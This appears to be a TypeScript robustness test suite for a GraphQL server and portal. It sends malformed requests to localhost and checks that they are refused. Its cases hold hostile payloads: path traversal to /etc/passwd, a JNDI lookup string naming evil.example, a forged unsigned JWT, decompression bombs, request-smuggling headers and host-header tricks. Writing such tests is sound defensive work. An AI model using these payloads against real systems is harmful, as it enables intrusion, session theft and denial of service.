import { createConnection } from 'node:net';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';

/** A request by HTTP that is odd beyond its GraphQL, and the statuses of which one must come back. */
export interface HttpCase {
  name: string;
  method: string;
  path: string;
  headers: Readonly<Record<string, string>>;
  body?: Buffer;
  statuses: readonly number[];
}

/** Bytes on a connection, and what may come back: the first line's status, or null where the server hangs up without a word. */
export interface ConnectionCase {
  name: string;
  bytes: string | Buffer;
  statuses: readonly (number | null)[];
}

const AS_BROWSER = { accept: 'text/html', 'accept-encoding': 'br' };
const JSON_TYPE = { 'content-type': 'application/json' };
const QUERY = '{"query":"{ __typename }"}';
const REFUSED = [400, 403, 404, 405, 413, 414, 415, 421, 431];
/** The portal answers every path that is a page; 503 where it is not built. */
const PAGE = [200, 404, 503];

/** Requests of odd methods, addresses, headers and bodies. */
export function httpCases(): HttpCase[] {
  const post = (
    name: string,
    statuses: readonly number[],
    headers: Record<string, string>,
    body: string | Buffer = QUERY,
    path = '/graphql',
  ): HttpCase => ({ name, method: 'POST', path, headers, body: Buffer.from(body), statuses });
  const get = (
    name: string,
    statuses: readonly number[],
    path: string,
    headers: Record<string, string> = {},
  ): HttpCase => ({
    name,
    method: 'GET',
    path,
    headers,
    statuses,
  });
  const preflight = { 'apollo-require-preflight': '1' };
  const asQuery = (query: string, more = '') => `/graphql?query=${encodeURIComponent(query)}${more}`;
  const asHash = (hash: string, version = '1') =>
    `/graphql?extensions=${encodeURIComponent(`{"persistedQuery":{"version":${version},"sha256Hash":${hash}}}`)}`;
  const bomb = Buffer.alloc(50_000_000, ' ');
  const forged = ['{"alg":"none"}', '{"sub":"1","sid":"1","exp":99999999999,"iss":"pocketrocket"}', '']
    .map((part) => Buffer.from(part).toString('base64url'))
    .join('.');
  const multipart =
    '--b\r\ncontent-disposition: form-data; name="operations"\r\n\r\n{"query":"{ __typename }"}\r\n--b--\r\n';
  return [
    ...[
      '/',
      '/movie/1',
      '/movie/99999999',
      '/movie/x',
      '/collection/Drama',
      '/collection/%00',
      '/collection/%',
      '/user/1',
    ].map((path) => get(`the page ${path}`, PAGE, path, AS_BROWSER)),
    ...['/users', '/search?q=star', '/about', '/sign-in', '/account', '/nowhere', '/sitemap.xml'].map(
      (path) => get(`the page ${path}`, PAGE, path, AS_BROWSER),
    ),
    get('a page of an address that nobody asked for yet', PAGE, `/movie/${Date.now() % 1e9}`, AS_BROWSER),
    get('a page with a query of 7 kB', PAGE, `/search?q=${'ab%20'.repeat(1_400)}`, AS_BROWSER),
    get('a page in a language that is none', PAGE, '/?lang=__proto__', {
      ...AS_BROWSER,
      'accept-language': ';q=,'.repeat(2_000),
    }),
    get('a page that seems to be elsewhere', PAGE, '//elsewhere.example/movie/1', AS_BROWSER),
    get('the renderer as a file', [404], '/ssr/render.js', AS_BROWSER),
    get('a mutation by GET', [405], asQuery('mutation { signOutEverywhere }'), preflight),
    get('a query by GET that any page could send', [400], asQuery('{ __typename }')),
    get(
      'a query by GET of many fields',
      [200, 400],
      asQuery(`{ ${'a: __typename '.repeat(500)} }`),
      preflight,
    ),
    get('variables by GET that are no JSON', [400], asQuery('{ __typename }', '&variables=%7B'), preflight),
    get(
      'variables by GET that are deep',
      [200, 400],
      asQuery('{ __typename }', `&variables=${'['.repeat(5_000)}`),
      preflight,
    ),
    get(
      'extensions by GET that are a number',
      [200, 400],
      asQuery('{ __typename }', '&extensions=5'),
      preflight,
    ),
    get('two queries by GET', [200, 400], asQuery('{ __typename }', '&query=%7B'), preflight),
    get('a query by GET that is no text', [200, 400], '/graphql?query=%ff%fe%C3', preflight),
    get('no query by GET', [400], '/graphql?', preflight),
    get('a hash by GET that nobody registered', [200, 400], asHash(`"${'0'.repeat(64)}"`)),
    get('a hash by GET that is an object', [200, 400], asHash('{"a":1}')),
    get('a hash by GET of the wrong version', [200, 400], asHash('"a"', '"__proto__"')),
    get('a hash by GET named like a member of all objects', [200, 400], asHash('"constructor"')),
    get('a hash by GET with many names of content', [200, 400], asHash('"a"'), {
      'if-none-match': 'W/"a", '.repeat(1_500),
    }),
    get('extensions by GET that are no JSON, from any page', [400], '/graphql?extensions=%7B'),
    get('the schema with many names of content', [200], '/schema.graphql', {
      'if-none-match': '"'.repeat(10_000),
    }),
    get('GraphQL at a path within', PAGE, '/graphql/x'),
    get('a path that climbs', [...PAGE, 400], '/../../../../etc/passwd'),
    get('a path that climbs in disguise', [...PAGE, 400], '/..%2f..%2f..%2fetc%2fpasswd'),
    get('a path that climbs in double disguise', [...PAGE, 400], '/%252e%252e/%252e%252e/etc/passwd'),
    get('a path with a null character', [...PAGE, 400], '/assets/%00.js'),
    get('a path that is no text', [...PAGE, 400], '/%E0%A4%A'),
    get('a path of backslashes', [...PAGE, 400], '/..\\..\\..\\etc\\passwd'),
    get('a long path', [...PAGE, ...REFUSED], `/${'a'.repeat(12_000)}`),
    get('a path of many slashes', [...PAGE, ...REFUSED], '/'.repeat(8_000)),
    get('a path of another host', [...PAGE, 400], '//evil.example/graphql'),
    get('the times of steps', PAGE, '/steptimes'),
    get('a range of a page', [200, 206, 404, 416], '/', { range: 'bytes=9999999-,0-,5-1' }),
    get('many encodings to choose from', PAGE, '/', { 'accept-encoding': 'gzip;q=0,'.repeat(1_000) }),
    get('a playground in many languages', [...PAGE, 400], '/graphql', {
      accept: 'text/html,'.repeat(1_000),
    }),
    ...['PUT', 'DELETE', 'PATCH', 'TRACE', 'PROPFIND', 'HEAD', 'OPTIONS'].map((method): HttpCase => ({
      name: `the method ${method}`,
      method,
      path: '/graphql',
      headers: {},
      statuses: [200, 204, 400, 404, 405],
    })),
    post('plain text', [400, 415], { 'content-type': 'text/plain' }),
    post(
      'a form',
      [400, 415],
      { 'content-type': 'application/x-www-form-urlencoded' },
      'query=%7B__typename%7D',
    ),
    post('a form of parts', [400, 415], { 'content-type': 'multipart/form-data; boundary=b' }, multipart),
    post(
      'a form of parts with a preflight',
      [400, 415],
      { 'content-type': 'multipart/form-data; boundary=b', ...preflight },
      multipart,
    ),
    post('bare GraphQL', [400, 415], { 'content-type': 'application/graphql' }, '{ __typename }'),
    post('no type', [400, 415], {}),
    post(
      'JSON in UTF-16',
      [415],
      { 'content-type': 'application/json; charset=utf-16' },
      Buffer.from(QUERY, 'utf16le'),
    ),
    post('JSON in UTF-7', [415], { 'content-type': 'application/json; charset=utf-7' }),
    post('a type of many parameters', [200, 400, 415], {
      'content-type': `application/json${'; a=b'.repeat(2_000)}`,
    }),
    post('a compressed bomb', [413], { ...JSON_TYPE, 'content-encoding': 'gzip' }, gzipSync(bomb)),
    post('a bomb by Brotli', [413], { ...JSON_TYPE, 'content-encoding': 'br' }, brotliCompressSync(bomb)),
    post('a bomb by deflate', [413], { ...JSON_TYPE, 'content-encoding': 'deflate' }, deflateSync(bomb)),
    post(
      'compressed twice',
      [400, 415],
      { ...JSON_TYPE, 'content-encoding': 'gzip, gzip' },
      gzipSync(gzipSync(QUERY)),
    ),
    post('compressed in name only', [400], { ...JSON_TYPE, 'content-encoding': 'gzip' }),
    post(
      'compressed and cut short',
      [400],
      { ...JSON_TYPE, 'content-encoding': 'gzip' },
      gzipSync(QUERY).subarray(0, 20),
    ),
    post('an unknown compression', [415], { ...JSON_TYPE, 'content-encoding': 'x-made-up' }),
    post(
      'compressed and a valid query',
      [200],
      { ...JSON_TYPE, 'content-encoding': 'gzip' },
      gzipSync(QUERY),
    ),
    post('a body larger than allowed', [413], JSON_TYPE, Buffer.alloc(300_000, ' ')),
    post(
      'a token that nobody signed',
      [200, 401],
      { ...JSON_TYPE, authorization: `Bearer ${forged}` },
      '{"query":"{ viewer { userId } }"}',
    ),
    post(
      'a long token',
      [200, 401, 431],
      { ...JSON_TYPE, authorization: `Bearer ${'a'.repeat(12_000)}` },
      '{"query":"{ viewer { userId } }"}',
    ),
    post(
      'a name and a password',
      [200, 401],
      { ...JSON_TYPE, authorization: 'Basic YTpi' },
      '{"query":"{ viewer { userId } }"}',
    ),
    post(
      'a cookie of a session that is none',
      [200, 401],
      { ...JSON_TYPE, cookie: `pocketrocket_refresh=${'a'.repeat(8_000)}` },
      '{"query":"mutation { refreshSession { token } }"}',
    ),
    post(
      'cookies by the hundred',
      [200, 401],
      { ...JSON_TYPE, cookie: 'pocketrocket_refresh=a;'.repeat(300) },
      '{"query":"mutation { refreshSession { token } }"}',
    ),
    post(
      'a session by a page of another origin',
      [200, 401, 403],
      { ...JSON_TYPE, origin: 'https://evil.example', cookie: 'pocketrocket_refresh=a' },
      '{"query":"mutation { refreshSession { token } }"}',
    ),
    ...[
      'subscription { nothing }',
      '{ genres { name } }',
      '',
      'subscription { a: trainingChanged { stage ',
    ].map((query, at) =>
      post(
        `an event stream of no subscription, ${at + 1}`,
        [200],
        { ...JSON_TYPE, accept: 'text/event-stream' },
        JSON.stringify({ query }),
      ),
    ),
    post('an event stream of no JSON', [400], { ...JSON_TYPE, accept: 'text/event-stream' }, '{'),
    post('an event stream of plain text', [400], {
      'content-type': 'text/plain',
      accept: 'text/event-stream',
    }),
    post(
      'an event stream with a token that nobody signed',
      [401],
      { ...JSON_TYPE, accept: 'text/event-stream', authorization: `Bearer ${forged}` },
      '{"query":"subscription { trainingChanged { stage } }"}',
    ),
    post('an origin of nothing', [200], { ...JSON_TYPE, origin: 'null' }),
    post('a request id of code', [200], { ...JSON_TYPE, 'x-request-id': '${jndi:ldap://evil.example/a}"}' }),
    post('a trace that is none', [200], {
      ...JSON_TYPE,
      traceparent: '00-zz-zz-01',
      tracestate: 'a='.repeat(1_000),
    }),
    post('addresses that a client made up', [200], {
      ...JSON_TYPE,
      'x-forwarded-for': '1.2.3.4,'.repeat(1_000),
    }),
    post('another host', [421], { ...JSON_TYPE, host: 'evil.example' }),
    post('a host with a user', [400, 421], { ...JSON_TYPE, host: '127.0.0.1@evil.example' }),
    post('a host that looks local', [400, 421], { ...JSON_TYPE, host: 'localhost.evil.example' }),
    post('a body for a probe', [200], JSON_TYPE, Buffer.alloc(100_000, ' '), '/healthz'),
    post('a body for a page', [...PAGE, 405], JSON_TYPE, Buffer.alloc(100_000, ' '), '/movies'),
  ];
}

/** Bytes that are hardly HTTP. */
export function connectionCases(): ConnectionCase[] {
  const head = (...lines: string[]) => `${lines.join('\r\n')}\r\n\r\n`;
  const post = (...lines: string[]) =>
    head('POST /graphql HTTP/1.1', 'host: 127.0.0.1', 'content-type: application/json', ...lines);
  const hangsUp = [400, 408, null];
  const upgrade = [
    'connection: upgrade',
    'sec-websocket-version: 13',
    'sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==',
  ];
  return [
    { name: 'nothing but zeros', bytes: Buffer.alloc(10_000), statuses: hangsUp },
    { name: 'a greeting of TLS', bytes: Buffer.from('16030100c8010000c40303', 'hex'), statuses: hangsUp },
    { name: 'a greeting of HTTP/2', bytes: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', statuses: [...hangsUp, 505] },
    { name: 'HTTP/0.9', bytes: 'GET /graphql\r\n\r\n', statuses: hangsUp },
    {
      name: 'a version that is none',
      bytes: head('GET / HTTP/9.9', 'host: 127.0.0.1'),
      statuses: [...hangsUp, 505],
    },
    { name: 'no host', bytes: head('POST /graphql HTTP/1.1', 'content-length: 0'), statuses: hangsUp },
    {
      name: 'two hosts',
      bytes: head('GET /healthz HTTP/1.1', 'host: 127.0.0.1', 'host: evil.example'),
      statuses: [...hangsUp, 200],
    },
    {
      name: 'two lengths',
      bytes: `${post('content-length: 5', 'content-length: 26')}${QUERY}`,
      statuses: hangsUp,
    },
    {
      name: 'a length and chunks',
      bytes: `${post('content-length: 5', 'transfer-encoding: chunked')}0\r\n\r\nGET /`,
      statuses: hangsUp,
    },
    { name: 'a length below zero', bytes: post('content-length: -1'), statuses: hangsUp },
    {
      name: 'a length beyond all',
      bytes: post('content-length: 99999999999999999999'),
      statuses: [...hangsUp, 413],
    },
    { name: 'a length that is too short', bytes: `${post('content-length: 5')}${QUERY}`, statuses: hangsUp },
    {
      name: 'chunks of no number',
      bytes: `${post('transfer-encoding: chunked')}zz\r\n{}\r\n`,
      statuses: hangsUp,
    },
    {
      name: 'a chunk of a long extension',
      bytes: `${post('transfer-encoding: chunked')}2;${'a'.repeat(30_000)}\r\n{}\r\n0\r\n\r\n`,
      statuses: [...hangsUp, 413],
    },
    {
      name: 'an encoding of transfer that is none',
      bytes: post('transfer-encoding: made-up'),
      statuses: [...hangsUp, 501],
    },
    {
      name: 'an expectation that is none',
      bytes: `${post('expect: a miracle', 'content-length: 26')}${QUERY}`,
      statuses: [417],
    },
    {
      name: 'an upgrade to a websocket',
      bytes: head('GET /graphql HTTP/1.1', 'host: 127.0.0.1', 'upgrade: websocket', ...upgrade),
      statuses: [101],
    },
    {
      name: 'an upgrade to a websocket and then noise',
      bytes: Buffer.concat([
        Buffer.from(head('GET /graphql HTTP/1.1', 'host: 127.0.0.1', 'upgrade: websocket', ...upgrade)),
        Buffer.alloc(5_000, 0xff),
      ]),
      statuses: [101],
    },
    {
      name: 'an upgrade to a websocket by a page of another origin',
      bytes: head(
        'GET /graphql HTTP/1.1',
        'host: 127.0.0.1',
        'origin: https://evil.example',
        'upgrade: websocket',
        ...upgrade,
      ),
      statuses: [403],
    },
    {
      name: 'an upgrade to a websocket at another path',
      bytes: head('GET /healthz HTTP/1.1', 'host: 127.0.0.1', 'upgrade: websocket', ...upgrade),
      statuses: [404],
    },
    {
      name: 'an upgrade to a websocket without a key',
      bytes: head('GET /graphql HTTP/1.1', 'host: 127.0.0.1', 'upgrade: websocket', 'connection: upgrade'),
      statuses: [400],
    },
    {
      name: 'an upgrade to HTTP/2',
      bytes: head(
        'GET /graphql HTTP/1.1',
        'host: 127.0.0.1',
        'upgrade: h2c',
        'connection: upgrade, http2-settings',
        'http2-settings: AAMAAABk',
      ),
      statuses: [200, 400, 404, 426, null],
    },
    {
      name: 'a tunnel',
      bytes: head('CONNECT evil.example:443 HTTP/1.1', 'host: evil.example:443'),
      statuses: [...hangsUp, 405, 421],
    },
    {
      name: 'an address of another server',
      bytes: head('GET http://evil.example/graphql HTTP/1.1', 'host: 127.0.0.1', 'connection: close'),
      statuses: [200, 400, 404, 421],
    },
    {
      name: 'an address of a star',
      bytes: head('OPTIONS * HTTP/1.1', 'host: 127.0.0.1', 'connection: close'),
      statuses: [200, 204, 400, 404],
    },
    {
      name: 'headers by the thousand',
      bytes: head(
        'GET /healthz HTTP/1.1',
        'host: 127.0.0.1',
        ...Array.from({ length: 1_000 }, (_, at) => `x-${at}: ${at}`),
        'connection: close',
      ),
      statuses: [200, 431],
    },
    {
      name: 'a header that is long',
      bytes: head('GET /healthz HTTP/1.1', 'host: 127.0.0.1', `x-long: ${'a'.repeat(60_000)}`),
      statuses: [431],
    },
    {
      name: 'a header without a name',
      bytes: head('GET /healthz HTTP/1.1', 'host: 127.0.0.1', ': a'),
      statuses: hangsUp,
    },
    {
      name: 'a header that is folded',
      bytes: head('GET /healthz HTTP/1.1', 'host: 127.0.0.1', 'x-folded: a', '  b', 'connection: close'),
      statuses: [200, 400],
    },
    {
      name: 'a head with bare line breaks',
      bytes: 'GET /healthz HTTP/1.1\nhost: 127.0.0.1\n\n',
      statuses: [...hangsUp, 200],
    },
    {
      name: 'requests by the hundred at once',
      bytes: `${head('GET /healthz HTTP/1.1', 'host: 127.0.0.1')}`.repeat(300),
      statuses: [200],
    },
    {
      name: 'operations by the hundred at once',
      bytes: `${post(`content-length: ${QUERY.length}`)}${QUERY}`.repeat(200),
      statuses: [200, 429, 503],
    },
    { name: 'a body that is never sent', bytes: `${post('content-length: 26')}{`, statuses: [408, null] },
    {
      name: 'a body that is never asked for',
      bytes: `${post('content-length: 26', 'expect: 100-continue')}`,
      statuses: [100, 408, null],
    },
  ];
}

/**
 * Sends bytes on a connection of its own.
 * @param withinMs how long silence counts as no answer; 0 for never
 * @returns the status of the first line that comes back; null where the server hangs up, or is silent so long, without one
 */
export function exchange(port: number, bytes: string | Buffer, withinMs: number): Promise<number | null> {
  return new Promise((resolve) => {
    const socket = createConnection({ port, host: '127.0.0.1' }, () => socket.write(bytes));
    let text = '';
    const settle = () => {
      socket.destroy();
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(text)?.[1];
      resolve(status === undefined ? null : Number(status));
    };
    socket.on('data', (chunk: Buffer) => {
      text += chunk.toString('latin1');
      if (text.includes('\r\n')) settle();
    });
    socket.on('close', settle);
    // Whoever is hung up on while it writes hears of it as an error.
    socket.on('error', settle);
    socket.setTimeout(withinMs, settle);
  });
}
